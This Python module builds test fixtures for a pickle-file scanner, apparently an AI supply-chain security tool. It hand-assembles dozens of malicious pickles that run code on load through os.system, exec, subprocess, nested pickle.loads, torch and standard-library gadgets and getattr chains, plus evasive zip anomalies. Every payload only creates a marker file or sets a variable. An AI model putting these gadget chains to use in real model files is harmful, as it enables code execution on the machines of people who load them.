"""A corpus of malicious pickles built from scratch: hand-assembled opcode sequences (names as in
``pickletools``) and ``__reduce__`` objects.

Every payload is *trace-leaving*: if it were ever unpickled it would create the file ``marker``
or set the environment variable :data:`ENV_MARKER`, so a test proves nothing ran by checking that
neither exists afterwards. :func:`corpus` returns the samples with what a finding about each must
name (``expect``); ``live=True`` marks the ones cheap and harmless enough to really run in a
control test (in a subprocess), which shows the payloads work.

Nothing here unpickles anything; building the samples imports no optional library unless a
``needs`` is listed (torch for the torch-zip nested payload).
"""

from __future__ import annotations

import io
import marshal
import os
import pickle
import shlex
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

#: The environment variable a payload sets when it runs (instead of creating the marker file).
ENV_MARKER = "AISUPPLY_PAYLOAD_RAN"
#: The module a pickle names for os.system on this platform.
OS_MODULE = os.system.__module__

# -- an opcode assembler ----------------------------------------------------------------------

MARK = b"("
STOP = b"."
POP = b"0"
DUP = b"2"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
APPENDS = b"e"
SETITEM = b"s"
SETITEMS = b"u"
REDUCE = b"R"
BUILD = b"b"
NEWOBJ = b"\x81"
OBJ = b"o"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
NONE = b"N"


def proto(version: int) -> bytes:
    return b"\x80" + bytes([version])


def global_(module: str, name: str) -> bytes:
    """GLOBAL: module and name as text lines."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst(module: str, name: str) -> bytes:
    """INST: calls ``module.name(*args after the MARK)``."""
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def text(value: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    raw = value.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def string0(value: str) -> bytes:
    """STRING (protocol 0): a quoted repr on a line."""
    return b"S" + repr(value).encode() + b"\n"


def binbytes(value: bytes) -> bytes:
    """SHORT_BINBYTES, BINBYTES or BINBYTES8 by length."""
    if len(value) < 256:
        return b"C" + bytes([len(value)]) + value
    if len(value) < 1 << 32:
        return b"B" + struct.pack("<I", len(value)) + value
    return b"\x8e" + struct.pack("<Q", len(value)) + value


def binint1(value: int) -> bytes:
    return b"K" + bytes([value])


def binput(index: int) -> bytes:
    return b"q" + bytes([index])


def binget(index: int) -> bytes:
    return b"h" + bytes([index])


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + STACK_GLOBAL


def call(callable_ops: bytes, *args: bytes) -> bytes:
    """``callable(*args)`` through REDUCE: the callable, a MARK-ed tuple of args, REDUCE."""
    return callable_ops + MARK + b"".join(args) + TUPLE + REDUCE


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


# -- payload pieces ---------------------------------------------------------------------------


def touch_code(marker: Path) -> str:
    """Python source that creates ``marker``."""
    return f"open({str(marker)!r}, 'w').close()"


def touch_shell(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


class Reduce:
    """An object whose unpickling calls ``func(*args)`` (pickling it calls nothing)."""

    def __init__(self, func: Callable[..., Any], *args: Any) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.args)


@dataclass(frozen=True)
class Sample:
    """One malicious file: its bytes, what a finding must name, and whether the control test may
    run it for real."""

    name: str
    data: bytes
    expect: tuple[str, ...]
    live: bool = False
    needs: tuple[str, ...] = field(default_factory=tuple)


def _exec_ops(marker: Path) -> bytes:
    return call(global_("builtins", "exec"), text(touch_code(marker)))


def _system_ops(marker: Path) -> bytes:
    return call(global_(OS_MODULE, "system"), text(touch_shell(marker)))


def _env_ops() -> bytes:
    """``os.environ[ENV_MARKER] = '1'``: SETITEM on a global object."""
    return global_("os", "environ") + text(ENV_MARKER) + text("1") + SETITEM


def _getattr(obj_ops: bytes, name: str) -> bytes:
    return call(global_("builtins", "getattr"), obj_ops, text(name))


def _module(name: str) -> bytes:
    """The module object ``name``, through ``importlib.import_module``."""
    return call(global_("importlib", "import_module"), text(name))


def corpus(marker: Path, *, with_large: bool = True) -> list[Sample]:
    """Every malicious sample, each trace-leaving with ``marker``."""
    code = touch_code(marker)
    shell = touch_shell(marker)
    sh_argv = EMPTY_LIST + MARK + text("/bin/sh") + text("-c") + text(shell) + APPENDS
    sh_argv_bytes = EMPTY_LIST + MARK + binbytes(b"/bin/sh") + binbytes(b"-c") + binbytes(shell.encode()) + APPENDS
    samples: list[Sample] = []

    def add(name: str, data: bytes, *expect: str, live: bool = False, needs: tuple[str, ...] = ()) -> None:
        samples.append(Sample(name, data, expect, live, needs))

    # Every protocol, through pickle itself.
    for protocol in range(6):
        add(
            f"reduce-exec-p{protocol}",
            pickle.dumps(Reduce(exec, code), protocol=protocol),
            f"{'__builtin__' if protocol < 3 else 'builtins'}.exec",
            "called by REDUCE",
            live=True,
        )
        add(
            f"reduce-system-p{protocol}",
            pickle.dumps(Reduce(os.system, shell), protocol=protocol),
            f"{OS_MODULE}.system",
            live=True,
        )

    # GLOBAL vs STACK_GLOBAL, memo-indirect and POP-interleaved operands.
    add("global", proto(2) + _system_ops(marker) + STOP, f"{OS_MODULE}.system (GLOBAL", live=True)
    add(
        "stack-global",
        proto(4) + call(stack_global(OS_MODULE, "system"), text(shell)) + STOP,
        f"{OS_MODULE}.system (STACK_GLOBAL",
        live=True,
    )
    memo_indirect = (
        proto(4)
        + text(OS_MODULE)
        + binput(1)
        + POP
        + text("system")
        + binput(2)
        + POP
        + binget(1)
        + binget(2)
        + STACK_GLOBAL
        + MARK
        + text(shell)
        + TUPLE
        + REDUCE
        + STOP
    )
    add("memo-indirect-operands", memo_indirect, f"{OS_MODULE}.system (STACK_GLOBAL", live=True)
    interleaved = (
        proto(4)
        + text(OS_MODULE)
        + text("decoy")
        + POP
        + binint1(7)
        + POP
        + text("system")
        + MEMOIZE
        + STACK_GLOBAL
        + text(shell)
        + TUPLE1
        + REDUCE
        + STOP
    )
    add("pop-interleaved-operands", interleaved, f"{OS_MODULE}.system", live=True)

    # INST and OBJ call without REDUCE.
    add("inst", MARK + string0(shell) + inst(OS_MODULE, "system") + STOP, f"{OS_MODULE}.system (INST", live=True)
    add("obj", MARK + global_(OS_MODULE, "system") + string0(shell) + OBJ + STOP, "called by OBJ", live=True)

    # The payload after a 20 MiB BINBYTES8 blob.
    if with_large:
        blob = b"\x8e" + struct.pack("<Q", 20 << 20) + bytes(20 << 20)
        add("after-20MiB-blob", proto(4) + blob + POP + _exec_ops(marker) + STOP, "builtins.exec", live=True)

    # Module callables that run commands, fetch or write.
    add("posix-system", proto(2) + call(global_("posix", "system"), text(shell)) + STOP, "posix.system")
    add("nt-system", proto(2) + call(global_("nt", "system"), text(shell)) + STOP, "nt.system")
    add("os-popen", proto(2) + call(global_("os", "popen"), text(shell)) + STOP, "os.popen", live=True)
    add("subprocess-call", proto(2) + call(global_("subprocess", "call"), sh_argv) + STOP, "subprocess.call", live=True)
    add(
        "subprocess-popen",
        proto(4) + global_("subprocess", "Popen") + MARK + sh_argv + TUPLE + REDUCE + STOP,
        "subprocess.Popen",
        live=True,
    )
    add(
        "subprocess-check-output",
        proto(2) + call(global_("subprocess", "check_output"), sh_argv) + STOP,
        "subprocess.check_output",
    )
    add("builtins-eval", proto(2) + call(global_("builtins", "eval"), text(code)) + STOP, "builtins.eval", live=True)
    add(
        "builtins-open",
        proto(2) + call(global_("builtins", "open"), text(str(marker)), text("w")) + STOP,
        "builtins.open",
        live=True,
    )
    add(
        "builtins-compile-exec",
        proto(2)
        + call(global_("builtins", "exec"), call(global_("builtins", "compile"), text(code), text("x"), text("exec")))
        + STOP,
        "builtins.compile",
        "builtins.exec",
        live=True,
    )
    add(
        "runpy-run-code",
        proto(2) + call(global_("runpy", "_run_code"), text(code), EMPTY_DICT) + STOP,
        "runpy._run_code",
        live=True,
    )
    add(
        "pip-main",
        proto(2)
        + call(global_("pip", "main"), EMPTY_LIST + MARK + text("--log") + text(str(marker)) + text("list") + APPENDS)
        + STOP,
        "pip.main",
    )
    browser = call(global_("webbrowser", "GenericBrowser"), sh_argv)
    add("webbrowser-generic", proto(2) + call(_getattr(browser, "open"), text("x")) + STOP, "webbrowser.GenericBrowser")
    unix_socket = call(global_("socket", "socket"), binint1(1), binint1(1))
    add(
        "socket-bind",
        proto(2) + call(_getattr(unix_socket, "bind"), text(str(marker))) + STOP,
        "socket.socket",
        "socket.socket.bind via builtins.getattr",
    )
    add(
        "urllib-urlretrieve",
        proto(2)
        + call(global_("urllib.request", "urlretrieve"), text("file://" + os.devnull), text(str(marker)))
        + STOP,
        "urllib.request.urlretrieve",
    )

    # Standard-library trampolines: innocuous-looking names that run code or commands.
    add(
        "pydoc-pipepager",
        proto(2) + call(global_("pydoc", "pipepager"), text("x"), text(shell)) + STOP,
        "pydoc.pipepager",
        live=True,
    )
    add(
        "timeit-timeit",
        proto(2) + call(global_("timeit", "timeit"), text(code + "; raise RuntimeError('stop')")) + STOP,
        "timeit.timeit",
        live=True,
    )
    add("cprofile-run", proto(2) + call(global_("cProfile", "run"), text(code)) + STOP, "cProfile.run", live=True)
    interpreter = call(global_("code", "InteractiveInterpreter"))
    add(
        "code-interactive-runsource",
        proto(2) + call(_getattr(interpreter, "runsource"), text(code)) + STOP,
        "code.InteractiveInterpreter",
        "code.InteractiveInterpreter.runsource via builtins.getattr",
        live=True,
    )
    add(
        "uuid-get-command-stdout",
        proto(2) + call(global_("uuid", "_get_command_stdout"), text("touch"), text(str(marker))) + STOP,
        "uuid._get_command_stdout",
        live=True,
    )
    caps = EMPTY_DICT + text("x/y") + EMPTY_LIST + MARK + EMPTY_DICT + text("view") + text("v") + SETITEM
    caps += text("test") + text(shell) + SETITEM + APPENDS + SETITEM
    add(
        "mailcap-findmatch",
        proto(2) + call(global_("mailcap", "findmatch"), caps, text("x/y")) + STOP,
        "mailcap.findmatch",
    )
    pip_args = EMPTY_LIST + MARK + text("--log") + text(str(marker)) + text("list") + APPENDS
    add("ensurepip-run-pip", proto(2) + call(global_("ensurepip", "_run_pip"), pip_args) + STOP, "ensurepip._run_pip")
    add(
        "multiprocessing-spawnv-passfds",
        proto(3)
        + call(global_("multiprocessing.util", "spawnv_passfds"), binbytes(b"/bin/sh"), sh_argv_bytes, EMPTY_TUPLE)
        + STOP,
        "multiprocessing.util.spawnv_passfds",
        live=True,
    )
    add(
        "asyncio-unix-events-os-system",
        proto(4) + call(stack_global("asyncio.unix_events", "os.system"), text(shell)) + STOP,
        "asyncio.unix_events.os.system",
        live=True,
    )
    add(
        "asyncio-unix-events-subprocess",
        proto(4) + call(stack_global("asyncio.unix_events", "subprocess.call"), sh_argv) + STOP,
        "asyncio.unix_events.subprocess.call",
    )

    # Attribute chains through getattr-like callables.
    main_builtins = global_("__main__", "__builtins__")
    add(
        "getattr-builtins-module",
        proto(2) + call(_getattr(main_builtins, "eval"), text(code)) + STOP,
        "builtins.eval via builtins.getattr",
    )
    add(
        "getattr-import-module",
        proto(2) + call(_getattr(_module(OS_MODULE), "system"), text(shell)) + STOP,
        f"{OS_MODULE}.system via builtins.getattr",
        "importlib.import_module",
        live=True,
    )
    add(
        "getitem-os-builtins",
        proto(2)
        + call(call(global_("operator", "getitem"), global_("os", "__builtins__"), text("exec")), text(code))
        + STOP,
        "builtins.exec via operator.getitem",
        live=True,
    )
    add(
        "getitem-c-operator",
        proto(2)
        + call(call(global_("_operator", "getitem"), global_("os", "__builtins__"), text("eval")), text(code))
        + STOP,
        "builtins.eval via _operator.getitem",
        live=True,
    )
    attrgetter = call(global_("operator", "attrgetter"), text("system"))
    add(
        "attrgetter",
        proto(2) + call(call(attrgetter, _module(OS_MODULE)), text(shell)) + STOP,
        f"{OS_MODULE}.system via operator.attrgetter",
        live=True,
    )
    dotted_getter = call(global_("operator", "attrgetter"), text("path.os.system"))
    add(
        "attrgetter-dotted-chain",
        proto(2) + call(call(dotted_getter, _module("os")), text(shell)) + STOP,
        "os.path.os.system via operator.attrgetter",
        live=True,
    )
    methodcaller = call(global_("operator", "methodcaller"), text("system"), text(shell))
    add(
        "methodcaller",
        proto(2) + call(methodcaller, _module(OS_MODULE)) + STOP,
        f"{OS_MODULE}.system via operator.methodcaller",
        "called via operator.methodcaller",
        live=True,
    )
    add(
        "dunder-import",
        proto(2) + call(_getattr(call(global_("builtins", "__import__"), text("os")), "system"), text(shell)) + STOP,
        "os.system via builtins.getattr",
        live=True,
    )
    add(
        "pkgutil-resolve-name",
        proto(2) + call(call(global_("pkgutil", "resolve_name"), text("os:system")), text(shell)) + STOP,
        "os.system via pkgutil.resolve_name",
        live=True,
    )
    add(
        "functools-partial",
        proto(2) + call(call(global_("functools", "partial"), global_(OS_MODULE, "system"), text(shell))) + STOP,
        "functools.partial",
        "called via functools.partial",
        live=True,
    )
    computed_name = call(global_("builtins", "str"), text("system"))
    add(
        "getattr-computed-name",
        proto(2) + call(call(global_("builtins", "getattr"), _module(OS_MODULE), computed_name), text(shell)) + STOP,
        "with operands that cannot be read statically",
        live=True,
    )

    # marshal'd code turned into a function and called.
    code_object = marshal.dumps(compile(code, "<payload>", "exec"))
    function = call(
        global_("types", "FunctionType"), call(global_("marshal", "loads"), binbytes(code_object)), EMPTY_DICT
    )
    add(
        "marshal-functiontype",
        proto(3) + call(function) + STOP,
        "marshal.loads",
        "types.FunctionType",
        "calls an object of types.FunctionType, not a named global",
        live=True,
    )

    # torch trampolines (the names need no torch to be written).
    add(
        "torch-rebuild-from-type-v2",
        proto(2)
        + call(
            global_("torch._tensor", "_rebuild_from_type_v2"),
            global_("builtins", "exec"),
            global_("builtins", "object"),
            MARK + text(code) + TUPLE,
            NONE,
        )
        + STOP,
        "torch._tensor._rebuild_from_type_v2",
        "builtins.exec (GLOBAL at offset",
        "called via torch._tensor._rebuild_from_type_v2",
    )
    graph_body = EMPTY_DICT + text("_code") + text("") + SETITEM
    add(
        "torch-fx-reduce-graph-module",
        proto(2) + call(global_("torch.fx.graph_module", "reduce_graph_module"), graph_body, text(code + "\n")) + STOP,
        "torch.fx.graph_module.reduce_graph_module",
    )

    # Nested pickles: bytes that are themselves pickles, unpickled by the stream.
    inner = pickle.dumps(Reduce(exec, code), protocol=2)
    add(
        "nested-pickle-loads",
        proto(4) + call(global_("pickle", "loads"), binbytes(inner)) + STOP,
        "pickle.loads",
        "bytes passed to pickle.loads at offset",
        live=True,
    )
    add(
        "nested-c-pickle-loads",
        proto(4) + call(global_("_pickle", "loads"), binbytes(inner)) + STOP,
        "_pickle.loads",
        "bytes passed to _pickle.loads at offset",
        live=True,
    )
    add(
        "nested-twice",
        proto(4)
        + call(
            global_("pickle", "loads"), binbytes(proto(4) + call(global_("pickle", "loads"), binbytes(inner)) + STOP)
        )
        + STOP,
        "bytes passed to pickle.loads at offset 17 > bytes passed to pickle.loads",
        live=True,
    )
    add(
        "nested-load-from-bytes",
        proto(2) + call(global_("torch.storage", "_load_from_bytes"), binbytes(inner)) + STOP,
        "torch.storage._load_from_bytes",
        "bytes passed to torch.storage._load_from_bytes",
    )
    add(
        "nested-bytes-before-callable",
        proto(4) + binbytes(inner) + binput(0) + POP + global_("pickle", "loads") + binget(0) + TUPLE1 + REDUCE + STOP,
        "they were not kept for analysis",
        live=True,
    )
    add(
        "nested-inst-loads",
        proto(4) + MARK + binbytes(inner) + inst("pickle", "loads") + STOP,
        "pickle.loads (INST",
        "they were not kept for analysis",
        live=True,
    )
    add(
        "pickle-after-stop",
        pickle.dumps({"weights": [1.0, 2.0]}, protocol=2) + pickle.dumps(Reduce(exec, code), protocol=2),
        "__builtin__.exec",
    )

    # State set on globals: a class patched so its next instance runs code; the environment.
    add(
        "build-on-class",
        proto(2)
        + global_("torch.nn.modules.linear", "Linear")
        + NONE
        + EMPTY_DICT
        + text("__setstate__")
        + global_("builtins", "exec")
        + SETITEM
        + TUPLE2
        + BUILD
        + POP
        + global_("torch.nn.modules.linear", "Linear")
        + EMPTY_TUPLE
        + NEWOBJ
        + text(code)
        + BUILD
        + STOP,
        "sets the state of the global torch.nn.modules.linear.Linear",
    )
    add("setitem-os-environ", proto(2) + _env_ops() + STOP, "sets an item on the global os.environ", live=True)
    add(
        "build-on-module",
        proto(2)
        + _module("os")
        + NONE
        + EMPTY_DICT
        + text("sep")
        + text("!")
        + SETITEM
        + TUPLE2
        + BUILD
        + POP
        + _env_ops()
        + STOP,
        "sets the state of the module os",
        live=True,
    )

    # Structure: the payload runs before the unpickler meets the anomaly.
    payload = _exec_ops(marker)
    add("truncated", proto(2) + payload, "truncated", live=True)
    add("unknown-opcode", proto(2) + payload + b"\xff" + STOP, "unknown opcode 0xff", live=True)
    add("unset-memo-slot", proto(2) + payload + binget(9) + STOP, "memo reference to unset slot 9", live=True)
    cut = len(global_("builtins", "exec") + MARK) + 4  # the frame ends inside the string's bytes
    add("frame-straddle", proto(4) + frame(payload[:cut]) + payload[cut:] + STOP, "straddles the end of a frame")
    add("ext-code", proto(2) + b"\x82\x01" + MARK + text(code) + TUPLE + REDUCE + STOP, "<copyreg extension>.1")
    add("protocol-6", proto(6) + payload + STOP, "format not recognised")
    return samples


# -- containers and zip anomalies -------------------------------------------------------------


def zip_with(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _local_header(data: bytes, name: str) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.getinfo(name).header_offset


def _central_of(data: bytes, name: str) -> int:
    position = data.index(b"PK\x01\x02")
    while True:
        name_length = struct.unpack("<H", data[position + 28 : position + 30])[0]
        if data[position + 46 : position + 46 + name_length] == name.encode():
            return position
        extra, comment = struct.unpack("<HH", data[position + 30 : position + 34])
        position += 46 + name_length + extra + comment


def zip_anomalies(payload: bytes, benign: bytes) -> dict[str, tuple[bytes, str]]:
    """Zip files with a structural anomaly, each mapped to (bytes, what a finding must say).
    ``payload`` is a malicious pickle, ``benign`` a harmless one."""
    result: dict[str, tuple[bytes, str]] = {}
    torch_like = {"archive/data.pkl": benign, "archive/version": b"3\n", "archive/byteorder": b"little"}

    # A member whose data no longer matches its CRC-32 (a pickle member: read whole).
    data = bytearray(zip_with({"model.pkl": benign}))
    start = _local_header(bytes(data), "model.pkl") + 30 + len("model.pkl")
    data[start + len(benign) // 2] ^= 0x01
    result["bad-crc"] = (bytes(data), "Bad CRC-32")

    # The encrypted flag, in both headers, and in the local header only.
    data = bytearray(zip_with({"model.pkl": payload}))
    local = _local_header(bytes(data), "model.pkl")
    central = _central_of(bytes(data), "model.pkl")
    both = bytearray(data)
    both[local + 6] |= 0x01
    both[central + 8] |= 0x01
    result["encrypted"] = (bytes(both), "encrypted")
    local_only = bytearray(data)
    local_only[local + 6] |= 0x01
    result["encrypted-local-only"] = (bytes(local_only), "encrypted in its local header only")

    # The local header names the member differently from the central directory.
    data = bytearray(zip_with({"archive/data.pkl": benign, "archive/evil.pkl": payload, "archive/version": b"3\n"}))
    local = _local_header(bytes(data), "archive/evil.pkl")
    data[local + 30 : local + 30 + len("archive/evil.pkl")] = b"archive/data.pkl"
    result["name-mismatch"] = (bytes(data), "the local header names this member 'archive/data.pkl'")

    # A member whose bytes lie inside another member's data (a second entry read from the same bytes).
    hidden = zip_with({"b.pkl": payload})
    hidden_entry = hidden[: hidden.index(b"PK\x01\x02")]  # b.pkl's local header and data
    data = zip_with({"a.bin": hidden_entry, "b.pkl": payload})
    patched = bytearray(data)
    central_b = _central_of(data, "b.pkl")
    inside_a = _local_header(data, "a.bin") + 30 + len("a.bin")
    patched[central_b + 42 : central_b + 46] = struct.pack("<I", inside_a)
    result["overlapping"] = (bytes(patched), "member overlaps 'a.bin'")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, _quiet_duplicates():
        archive.writestr("archive/data.pkl", benign)
        archive.writestr("archive/data.pkl", payload)
        archive.writestr("archive/version", b"3\n")
    result["duplicate-names"] = (buffer.getvalue(), "2 members have this name")

    # A pickle in front of a zip: pickle.load runs it, zip readers see the members.
    result["pickle-then-zip"] = (payload + zip_with(torch_like), "pickle-then-zip polyglot")

    # An archive format that cannot be read, and an unknown compression method, in a checkpoint.
    seven_zip = b"7z\xbc\xaf\x27\x1c" + bytes(64)
    result["7z-member"] = (
        zip_with({**torch_like, "archive/data/0": seven_zip, "archive/extra.7z": seven_zip}),
        "7z archives cannot be inspected",
    )
    data = bytearray(zip_with(torch_like))
    local = _local_header(bytes(data), "archive/data.pkl")
    central = _central_of(bytes(data), "archive/data.pkl")
    data[local + 8 : local + 10] = struct.pack("<H", 99)
    data[central + 10 : central + 12] = struct.pack("<H", 99)
    result["unknown-compression"] = (bytes(data), "unsupported compression method 99")
    return result


class _quiet_duplicates:
    """zipfile warns when a name is written twice; the duplicate is the point here."""

    def __enter__(self) -> None:
        import warnings

        self._catcher = warnings.catch_warnings()
        self._catcher.__enter__()
        warnings.simplefilter("ignore")

    def __exit__(self, *exc: object) -> None:
        self._catcher.__exit__(*exc)  # type: ignore[arg-type]


def torch_zip_of(obj: Any) -> bytes:
    """``torch.save(obj)`` as bytes (needs torch)."""
    import torch

    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def liveness_script(data_path: Path, marker: Path) -> str:
    """Python source that really unpickles the file (for the liveness control only, in a
    subprocess), then turns the environment-variable trace into the marker file."""
    return (
        "import os, pickle\n"
        f"data = open({str(data_path)!r}, 'rb').read()\n"
        "try:\n    pickle.loads(data)\nexcept Exception:\n    pass\n"
        f"if os.environ.get({ENV_MARKER!r}):\n    open({str(marker)!r}, 'w').close()\n"
    )
